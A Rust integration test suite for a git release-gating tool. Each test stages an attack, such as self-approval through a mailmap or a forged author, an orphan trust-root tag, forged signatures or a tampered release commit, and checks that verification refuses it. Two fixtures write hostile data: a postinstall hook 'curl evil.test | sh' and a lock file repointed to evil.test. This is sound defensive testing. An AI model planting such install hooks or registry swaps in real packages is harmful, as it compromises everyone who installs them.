//! The gate against someone who wants to slip a release through: each test
//! is an attack made as an attacker would (commits and tags pushed with
//! `--no-verify` to a real bare remote), then `verify` run the way CI runs
//! it, in a fresh clone with the evidence notes fetched. SECURITY.md lists
//! each attack with the test that defends it.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::fixture::{Run, TestRepo, git_in};

/// Tests must pass and one allowed approver must approve; authors may not.
const POLICY: &str = "[gate]\ntests = [\"unit\"]\napprovals = 1\napprovers = [\"*@example.com\"]\n";

/// A maintainer's repository with `policy` released as v1.0.0, a bare
/// remote holding it, and the attacker (Ada) at the keyboard.
struct Scene {
    repo: TestRepo,
    bare: PathBuf,
    clones: usize,
}

impl Scene {
    fn new(policy: &str) -> Scene {
        Scene::with_files(&[(".release.toml", policy)])
    }

    fn with_files(files: &[(&str, &str)]) -> Scene {
        let mut repo = TestRepo::new();
        for (path, content) in files {
            repo.write(path, content);
        }
        repo.git(&["add", "."]);
        repo.commit("chore: release policy");
        repo.git(&["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
        let bare = repo.root().join("remote.git");
        repo.git(&["init", "-q", "--bare", "-b", "main", bare.to_str().unwrap()]);
        repo.git(&["remote", "add", "origin", bare.to_str().unwrap()]);
        repo.git(&["push", "-q", "origin", "main", "v1.0.0"]);
        repo.as_user("Ada Author", "ada@example.com");
        Scene {
            repo,
            bare,
            clones: 0,
        }
    }

    /// Pushes everything the attacker has, hooks skipped.
    fn push_all(&self) {
        self.repo
            .git(&["push", "-q", "--no-verify", "-f", "origin", "--all"]);
        self.repo
            .git(&["push", "-q", "--no-verify", "-f", "origin", "--tags"]);
        if !self
            .repo
            .git(&["for-each-ref", "refs/notes/release/"])
            .is_empty()
        {
            self.repo.git(&[
                "push",
                "-q",
                "--no-verify",
                "-f",
                "origin",
                "refs/notes/release/*:refs/notes/release/*",
            ]);
        }
    }

    /// CI: a fresh clone at the tag with the notes, then `verify TAG`, with
    /// the root pinned or not.
    fn ci_verify(&mut self, tag: &str, pin: Option<&str>) -> Run {
        self.push_all();
        self.clones += 1;
        let ci = self.repo.root().join(format!("ci{}", self.clones));
        git_in(
            self.repo.root(),
            &[
                "clone",
                "-q",
                self.bare.to_str().unwrap(),
                ci.to_str().unwrap(),
            ],
        );
        git_in(
            &ci,
            &[
                "fetch",
                "-q",
                "origin",
                "refs/notes/release/*:refs/notes/release/*",
            ],
        );
        git_in(&ci, &["checkout", "-q", "--detach", tag]);
        let mut args = vec!["verify", tag];
        if let Some(pin) = pin {
            args.extend(["--trust-root", pin]);
        }
        self.repo.run_in(&ci, &args)
    }

    /// Records a passing `unit` run on HEAD (as whoever is configured).
    fn tests_pass(&self) {
        self.repo
            .run(&["test", "--suite", "unit", "--", "true"])
            .expect(0);
    }

    /// Ada approves HEAD for `tag`.
    fn ada_approves(&self, tag: &str) {
        self.repo.run(&["approve", "--tag", tag]).expect(0);
    }

    /// Bea, an allowed approver who wrote nothing, approves HEAD for `tag`.
    fn bea_approves(&mut self, tag: &str) {
        self.repo.as_user("Bea Approver", "bea@example.com");
        self.repo.run(&["approve", "--tag", tag]).expect(0);
        self.repo.as_user("Ada Author", "ada@example.com");
    }

    /// Bea approves deploying v1.1.0 to `environment`.
    fn bea_approves_env(&mut self, environment: &str) {
        self.repo.as_user("Bea Approver", "bea@example.com");
        self.repo
            .run(&["approve", "--tag", "v1.1.0", "--env", environment])
            .expect(0);
        self.repo.as_user("Ada Author", "ada@example.com");
    }

    fn commit_file(&mut self, path: &str, content: &str, message: &str) {
        self.repo.write(path, content);
        self.repo.git(&["add", "."]);
        self.repo.commit(message);
    }

    /// Tags HEAD as the release manager, Carol, who neither wrote nor
    /// approves anything (so only authorship decides self-approval).
    fn tag(&self, name: &str) {
        let mut cmd = Command::new("git");
        crate::fixture::hermetic(&mut cmd, self.repo.root());
        let out = cmd
            .env("GIT_COMMITTER_NAME", "Carol Manager")
            .env("GIT_COMMITTER_EMAIL", "carol@example.com")
            .args(["tag", "-a", name, "-m", name])
            .current_dir(self.repo.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Refused, under the rules released in v1.0.0 (reached through the chain
/// or pinned).
fn governed_by_v1(run: &Run) {
    run.expect(1);
    let gate = run
        .stdout()
        .lines()
        .find(|l| l.contains("Gate for"))
        .unwrap_or_default()
        .to_owned();
    assert!(gate.contains("v1.0.0"), "{}", run.stdout());
}

fn refused(run: &Run, why: &str) {
    run.expect(1);
    let all = format!("{}{}", run.stdout(), run.stderr());
    assert!(all.contains(why), "expected {why:?} in:\n{all}");
}

// ---------------------------------------------------------------------------
// The trust root

#[test]
fn an_orphan_tag_with_a_lower_version_is_not_the_trust_base() {
    let mut s = Scene::new(POLICY);
    s.commit_file("src.txt", "feature", "feat: unapproved");
    s.tag("v1.1.0");
    // An orphan commit with no policy at all, tagged just below.
    s.repo.git(&["switch", "-q", "--orphan", "void"]);
    s.commit_file("empty.txt", "", "chore: nothing");
    s.tag("v1.0.1");
    s.repo.git(&["switch", "-q", "main"]);
    for pin in [None, Some("v1.0.0")] {
        governed_by_v1(&s.ci_verify("v1.1.0", pin));
    }
}

#[test]
fn an_old_commit_tagged_below_the_release_is_not_the_trust_base() {
    let mut s = Scene::new(POLICY);
    // The commit from before the policy existed, tagged v1.0.1.
    s.repo.git(&["tag", "-a", "v1.0.1", "-m", "old", "HEAD~1"]);
    s.commit_file("src.txt", "feature", "feat: unapproved");
    s.tag("v1.1.0");
    for pin in [None, Some("v1.0.0")] {
        governed_by_v1(&s.ci_verify("v1.1.0", pin));
    }
}

#[test]
fn a_tag_with_a_broken_policy_cannot_block_later_releases() {
    let mut s = Scene::new(POLICY);
    // Anyone who can push a tag pushes one whose configuration is broken.
    s.repo.git(&["switch", "-q", "-c", "junk", "HEAD~1"]);
    s.commit_file(".release.toml", "[gate\nnot toml", "chore: junk");
    s.tag("v1.0.5");
    s.repo.git(&["switch", "-q", "main"]);
    // An honest release with its evidence still verifies.
    s.commit_file("src.txt", "feature", "feat: honest");
    s.tests_pass();
    s.bea_approves("v1.1.0");
    s.tag("v1.1.0");
    for pin in [None, Some("v1.0.0")] {
        s.ci_verify("v1.1.0", pin).expect(0);
    }
    // Even when the broken tag is merged into the history.
    s.repo.git(&[
        "merge",
        "-q",
        "--no-ff",
        "-s",
        "ours",
        "-m",
        "chore: merge junk",
        "junk",
    ]);
    s.tests_pass();
    s.bea_approves("v1.2.0");
    s.tag("v1.2.0");
    s.ci_verify("v1.2.0", Some("v1.0.0")).expect(0);
}

#[test]
fn a_pinned_root_refuses_histories_that_do_not_descend_from_it() {
    let mut s = Scene::new(POLICY);
    s.repo.git(&["switch", "-q", "--orphan", "evil"]);
    s.commit_file("x", "x", "feat: a history of my own");
    s.tag("v9.0.0");
    let run = s.ci_verify("v9.0.0", Some("v1.0.0"));
    refused(&run, "is not in the history of `v9.0.0`");
    // The same pin through the environment and through git config.
    let ci = s.repo.root().join(format!("ci{}", s.clones));
    let run = s.repo.run_env(
        &ci,
        &["verify", "v9.0.0"],
        &[("GIT_RELEASE_TRUST_ROOT", "v1.0.0")],
    );
    refused(&run, "is not in the history");
    git_in(&ci, &["config", "release.trustRoot", "v1.0.0"]);
    refused(
        &s.repo.run_in(&ci, &["verify", "v9.0.0"]),
        "is not in the history",
    );
}

#[test]
fn the_candidate_cannot_choose_how_its_tag_is_classified() {
    let mut s = Scene::new(POLICY);
    // With `tag = "v2{version}"`, `v21.0.0` would be a first release.
    s.commit_file(
        ".release.toml",
        "tag = \"v2{version}\"\n[gate]\n",
        "feat: my own tag template",
    );
    s.tag("v21.0.0");
    governed_by_v1(&s.ci_verify("v21.0.0", None));
}

#[test]
fn a_policy_change_is_gated_by_the_policy_it_replaces() {
    let mut s = Scene::new(POLICY);
    // The candidate drops the gate: its own release is still held to v1.0.0's.
    s.commit_file(".release.toml", "[gate]\n", "chore: no more gate");
    s.tag("v1.1.0");
    refused(&s.ci_verify("v1.1.0", None), "approvals");
    // Approved under the old rules, the new rules govern what follows.
    s.repo.git(&["tag", "-d", "v1.1.0"]);
    s.tests_pass();
    s.bea_approves("v1.1.0");
    s.tag("v1.1.0");
    s.ci_verify("v1.1.0", Some("v1.0.0")).expect(0);
    s.commit_file("src.txt", "x", "feat: after the change");
    s.tag("v1.2.0");
    let run = s.ci_verify("v1.2.0", Some("v1.0.0"));
    run.expect(0);
    assert!(run.stdout().contains("release v1.1.0"), "{}", run.stdout());
}

// ---------------------------------------------------------------------------
// Self-approval

/// Ada wrote the change, tests pass, Ada approves: never enough.
fn ada_self_approves(s: &mut Scene, tag: &str) {
    s.tests_pass();
    s.ada_approves(tag);
    s.tag(tag);
    let run = s.ci_verify(tag, Some("v1.0.0"));
    refused(&run, "authored or committed a change in this release");
}

#[test]
fn self_approval_through_a_mailmap_the_candidate_adds() {
    let mut s = Scene::new(POLICY);
    s.commit_file(
        ".mailmap",
        "Bea Approver <bea@example.com> <ada@example.com>\n",
        "feat: map me to someone else",
    );
    ada_self_approves(&mut s, "v1.1.0");
}

#[test]
fn self_approval_through_an_existing_mailmap_alias() {
    let mut s = Scene::with_files(&[
        (".release.toml", POLICY),
        (
            ".mailmap",
            "Ada Author <ada@example.com> <ada.author@example.com>\n",
        ),
    ]);
    s.commit_file("src.txt", "feature", "feat: mine");
    s.tests_pass();
    // Ada approves under her other address.
    s.repo.as_user("Ada Author", "ada.author@example.com");
    s.repo.run(&["approve", "--tag", "v1.1.0"]).expect(0);
    s.repo.as_user("Ada Author", "ada@example.com");
    s.tag("v1.1.0");
    refused(
        &s.ci_verify("v1.1.0", Some("v1.0.0")),
        "authored or committed a change in this release",
    );
}

#[test]
fn self_approval_through_first_parent_and_a_merge() {
    let mut s = Scene::new(POLICY);
    s.commit_file(
        ".release.toml",
        &format!("{POLICY}[commits]\nfirst-parent = true\n"),
        "chore: squash workflow",
    );
    s.repo.git(&["switch", "-q", "-c", "topic"]);
    s.commit_file("src.txt", "feature", "feat: mine");
    s.repo.git(&["switch", "-q", "main"]);
    // Bea merges it; only the merge is in first-parent scope.
    s.repo.as_user("Bea Approver", "bea@example.com");
    let mut cmd = Command::new("git");
    crate::fixture::hermetic(&mut cmd, s.repo.root());
    let out = cmd
        .env("GIT_AUTHOR_NAME", "Bea Approver")
        .env("GIT_AUTHOR_EMAIL", "bea@example.com")
        .env("GIT_COMMITTER_NAME", "Bea Approver")
        .env("GIT_COMMITTER_EMAIL", "bea@example.com")
        .args(["merge", "-q", "--no-ff", "-m", "feat: merge topic", "topic"])
        .current_dir(s.repo.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    s.repo.as_user("Ada Author", "ada@example.com");
    ada_self_approves(&mut s, "v1.1.0");
}

#[test]
fn self_approval_through_a_package_with_an_unrelated_path() {
    let mut s = Scene::new(POLICY);
    s.commit_file(
        ".release.toml",
        &format!(
            "{POLICY}[[package]]\nname = \"x\"\npath = \"nothing-here\"\ntag = \"v{{version}}\"\n"
        ),
        "feat: a package that owns nothing",
    );
    ada_self_approves(&mut s, "v1.1.0");
}

#[test]
fn self_approval_through_a_merge_that_adds_code() {
    let mut s = Scene::new(POLICY);
    s.repo.git(&["switch", "-q", "-c", "topic"]);
    s.repo.as_user("Bea Approver", "bea@example.com");
    let mut cmd = Command::new("git");
    crate::fixture::hermetic(&mut cmd, s.repo.root());
    s.repo.write("bea.txt", "bea");
    s.repo.git(&["add", "."]);
    let out = cmd
        .env("GIT_AUTHOR_NAME", "Bea Approver")
        .env("GIT_AUTHOR_EMAIL", "bea@example.com")
        .env("GIT_COMMITTER_NAME", "Bea Approver")
        .env("GIT_COMMITTER_EMAIL", "bea@example.com")
        .args(["commit", "-q", "-m", "feat: by bea"])
        .current_dir(s.repo.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    s.repo.as_user("Ada Author", "ada@example.com");
    s.repo.git(&["switch", "-q", "main"]);
    // Ada merges, and slips her own code into the merge commit.
    s.repo
        .git(&["merge", "-q", "--no-ff", "--no-commit", "topic"]);
    s.repo.write("evil.txt", "ada's code");
    s.repo.git(&["add", "."]);
    s.repo.git(&["commit", "-q", "-m", "Merge branch 'topic'"]);
    ada_self_approves(&mut s, "v1.1.0");
}

#[test]
fn self_approval_by_committing_as_someone_else() {
    let mut s = Scene::new(POLICY);
    s.repo.write("src.txt", "feature");
    s.repo.git(&["add", "."]);
    s.repo.git(&[
        "commit",
        "-q",
        "--author",
        "Bea Approver <bea@example.com>",
        "-m",
        "feat: written by 'bea'",
    ]);
    ada_self_approves(&mut s, "v1.1.0");
}

#[test]
fn an_honest_approval_still_counts() {
    let mut s = Scene::new(POLICY);
    s.commit_file("src.txt", "feature", "feat: mine");
    s.tests_pass();
    s.bea_approves("v1.1.0");
    s.tag("v1.1.0");
    let run = s.ci_verify("v1.1.0", Some("v1.0.0"));
    run.expect(0);
    assert!(run.stdout().contains("Verified."), "{}", run.stdout());
}

// ---------------------------------------------------------------------------
// Records

#[test]
fn a_record_from_the_future_does_not_count() {
    let mut s = Scene::new("[gate]\ntests = [\"unit\"]\n");
    s.commit_file("src.txt", "feature", "feat: x");
    // A passing run dated a year ahead, then the real (failing) run.
    s.repo
        .run_env(
            &s.repo.path(),
            &["test", "--suite", "unit", "--", "true"],
            &[("GIT_RELEASE_NOW", "2024-11-15T10:00:00Z")],
        )
        .expect(0);
    s.repo
        .run(&["test", "--suite", "unit", "--", "false"])
        .expect(1);
    s.tag("v1.1.0");
    let run = s.ci_verify("v1.1.0", Some("v1.0.0"));
    refused(&run, "failed");
    let json = s
        .repo
        .run(&["gate", "--tag", "v1.1.0", "--format", "json"])
        .json();
    assert!(
        json.to_string().contains("recorded in the future"),
        "{json}"
    );
}

#[test]
fn a_junk_signature_is_never_reported_as_signed() {
    let mut s = Scene::new("[gate]\ntests = [\"unit\"]\n");
    s.commit_file("src.txt", "feature", "feat: x");
    s.tests_pass();
    let note = s
        .repo
        .git(&["notes", "--ref", "release/tests", "show", "HEAD"]);
    let forged = format!("{} sig=AAAAjunk", note.trim());
    s.repo.git(&[
        "notes",
        "--ref",
        "release/tests",
        "add",
        "-f",
        "-m",
        &forged,
        "HEAD",
    ]);
    let run = s.repo.run(&["gate"]);
    assert!(!run.stdout().contains("signed"), "{}", run.stdout());
}

#[test]
fn trust_by_branch_name_is_refused() {
    let mut s = Scene::new(&format!("{POLICY}trust = \"origin/main\"\n"));
    s.commit_file("src.txt", "feature", "feat: x");
    s.tag("v1.1.0");
    let run = s.ci_verify("v1.1.0", Some("v1.0.0"));
    assert_ne!(run.code(), 0, "{}", run.stdout());
    assert!(
        run.stderr().contains("names a revision that can move"),
        "{}",
        run.stderr()
    );
}

// ---------------------------------------------------------------------------
// The release commit

const PACKAGE_JSON: &str = "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"true\"\n  }\n}\n";
const PACKAGE_LOCK: &str = "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": {\n      \"name\": \"app\",\n      \"version\": \"1.0.0\"\n    },\n    \"node_modules/left-pad\": {\n      \"version\": \"1.3.0\",\n      \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n    }\n  }\n}\n";

/// An honest, approved release v1.1.0 made by `tag` (with a release commit
/// that updates the changelog, package.json and package-lock.json).
fn released_app() -> Scene {
    let policy = format!("version-files = [\"package.json\"]\n{POLICY}");
    let mut s = Scene::with_files(&[
        (".release.toml", &policy),
        ("package.json", PACKAGE_JSON),
        ("package-lock.json", PACKAGE_LOCK),
        (
            "CHANGELOG.md",
            "# Changelog\n\n## 1.0.0\n\n- Audited by the security team.\n",
        ),
    ]);
    s.commit_file("src.txt", "feature", "feat: x");
    s.tests_pass();
    s.bea_approves("v1.1.0");
    s.repo.run(&["tag"]).expect(0);
    s
}

/// Rewrites the release commit with `edit`, keeping the tag's record.
fn forge_release_commit(s: &mut Scene, edit: impl Fn(&Path)) {
    let message = s.repo.git(&["tag", "-l", "--format=%(contents)", "v1.1.0"]);
    edit(&s.repo.path());
    s.repo.git(&["add", "."]);
    s.repo.git(&["commit", "-q", "--amend", "--no-edit"]);
    s.repo
        .git(&["tag", "-f", "-a", "v1.1.0", "-m", message.trim()]);
}

#[test]
fn the_honest_release_commit_verifies() {
    let mut s = released_app();
    let text = std::fs::read_to_string(s.repo.path().join("package.json")).unwrap();
    assert!(text.contains("\"version\": \"1.1.0\""), "{text}");
    let run = s.ci_verify("v1.1.0", Some("v1.0.0"));
    run.expect(0);
    assert!(
        run.stdout().contains("as `tag` writes them"),
        "{}",
        run.stdout()
    );
}

#[test]
fn a_release_commit_cannot_add_an_install_script() {
    let mut s = released_app();
    forge_release_commit(&mut s, |dir| {
        let path = dir.join("package.json");
        let text = std::fs::read_to_string(&path).unwrap().replace(
            "\"test\": \"true\"",
            "\"test\": \"true\",\n    \"postinstall\": \"curl evil.test | sh\"",
        );
        std::fs::write(path, text).unwrap();
    });
    refused(
        &s.ci_verify("v1.1.0", Some("v1.0.0")),
        "`package.json` is not what `tag` writes",
    );
}

#[test]
fn a_release_commit_cannot_point_a_lock_file_elsewhere() {
    let mut s = released_app();
    forge_release_commit(&mut s, |dir| {
        let path = dir.join("package-lock.json");
        let text = std::fs::read_to_string(&path)
            .unwrap()
            .replace("registry.npmjs.org", "evil.test");
        std::fs::write(path, text).unwrap();
    });
    refused(
        &s.ci_verify("v1.1.0", Some("v1.0.0")),
        "`package-lock.json` is not what `tag` writes",
    );
}

#[test]
fn a_release_commit_cannot_rewrite_the_changelog() {
    let mut s = released_app();
    forge_release_commit(&mut s, |dir| {
        let path = dir.join("CHANGELOG.md");
        let text = std::fs::read_to_string(&path)
            .unwrap()
            .replace("- Audited by the security team.\n", "");
        std::fs::write(path, text).unwrap();
    });
    refused(
        &s.ci_verify("v1.1.0", Some("v1.0.0")),
        "`CHANGELOG.md` changes or removes hand-written lines",
    );
}

// ---------------------------------------------------------------------------
// Deployments

const DEPLOY_POLICY: &str = "[gate]\napprovers = [\"*@example.com\"]\n\n[environments.staging]\n\n[environments.production]\napprovals = 1\n";

/// v1.1.0 released (its policy asks nothing of releases, but production
/// needs an approval), written by Ada.
fn deployable() -> Scene {
    let mut s = Scene::new(DEPLOY_POLICY);
    s.commit_file("src.txt", "feature", "feat: x");
    s.repo.run(&["tag"]).expect(0);
    s
}

fn deploy_production(s: &Scene) -> Run {
    s.repo.run(&[
        "deploy",
        "v1.1.0",
        "--env",
        "production",
        "--status",
        "started",
    ])
}

#[test]
fn deployment_approvals_follow_the_release_approval_rules() {
    let mut s = deployable();
    // Not an allowed approver.
    s.repo.as_user("Mallory", "mallory@evil.test");
    s.repo
        .run(&["approve", "--tag", "v1.1.0", "--env", "production"])
        .expect(0);
    s.repo.as_user("Carol Manager", "carol@example.com");
    refused(&deploy_production(&s), "not an allowed approver");
    // The author of the release approves its deployment.
    s.repo.as_user("Ada Author", "ada@example.com");
    s.repo
        .run(&["approve", "--tag", "v1.1.0", "--env", "production"])
        .expect(0);
    s.repo.as_user("Carol Manager", "carol@example.com");
    refused(
        &deploy_production(&s),
        "authored or committed a change in this release",
    );
    // An approval for another environment.
    s.bea_approves_env("staging");
    s.repo.as_user("Carol Manager", "carol@example.com");
    refused(&deploy_production(&s), "needs 1 approval(s)");
    // An allowed approver who took no part: the deployment may start.
    s.bea_approves_env("production");
    s.repo.as_user("Carol Manager", "carol@example.com");
    deploy_production(&s).expect(0);
}

#[test]
fn deployment_rules_come_from_the_release_not_the_work_tree() {
    let s = deployable();
    s.repo.write_file(
        ".release.toml",
        "[environments.production]\napprovals = 0\n",
    );
    refused(&deploy_production(&s), "needs 1 approval(s)");
    // An environment that exists only in the work tree does not exist.
    s.repo.write_file(
        ".release.toml",
        &format!("{DEPLOY_POLICY}[environments.shadow]\n"),
    );
    let run = s
        .repo
        .run(&["deploy", "v1.1.0", "--env", "shadow", "--status", "started"]);
    run.expect(2);
    assert!(
        run.stderr().contains("no environment `shadow`"),
        "{}",
        run.stderr()
    );
}

// ---------------------------------------------------------------------------
// The pre-push hook

fn push_with_hook(s: &Scene, args: &[&str]) -> std::process::Output {
    let mut cmd = Command::new("git");
    crate::fixture::hermetic(&mut cmd, s.repo.root());
    cmd.env("GIT_RELEASE_NOW", "2023-11-15T10:00:00Z");
    cmd.arg("push")
        .args(args)
        .current_dir(s.repo.path())
        .output()
        .unwrap()
}

#[test]
fn the_hook_guards_every_package_tag() {
    let config = "[gate]\ntests = [\"unit\"]\n\n[[package]]\nname = \"core\"\npath = \"core\"\n\n[[package]]\nname = \"web\"\npath = \"web\"\ntag = \"web@{version}\"\n";
    let mut s = Scene::with_files(&[
        (".release.toml", config),
        ("core/lib.txt", "core"),
        ("web/app.txt", "web"),
    ]);
    s.repo.git(&["tag", "core-v1.0.0"]);
    s.repo.git(&["tag", "web@1.0.0"]);
    s.repo
        .git(&["push", "-q", "origin", "core-v1.0.0", "web@1.0.0"]);
    s.repo.run(&["hook", "install"]).expect(0);
    s.commit_file("core/lib.txt", "core 2", "feat(core): more");
    s.repo.git(&["push", "-q", "--no-verify", "origin", "main"]);
    // An unapproved package release.
    s.tag("core-v1.1.0");
    let out = push_with_hook(&s, &["origin", "core-v1.1.0"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("`core-v1.1.0` does not meet"), "{stderr}");
    // Moving or deleting a published package tag, under either template.
    s.repo.git(&["tag", "-f", "core-v1.0.0", "HEAD"]);
    let out = push_with_hook(&s, &["-f", "origin", "core-v1.0.0"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("moving the release tag `core-v1.0.0`"),
        "{stderr}"
    );
    let out = push_with_hook(&s, &["origin", ":refs/tags/web@1.0.0"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("deleting the release tag `web@1.0.0`"),
        "{stderr}"
    );
    // With its evidence, the package release goes through.
    s.repo.git(&["tag", "-d", "core-v1.1.0"]);
    s.tests_pass();
    s.tag("core-v1.1.0");
    let out = push_with_hook(&s, &["origin", "core-v1.1.0"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
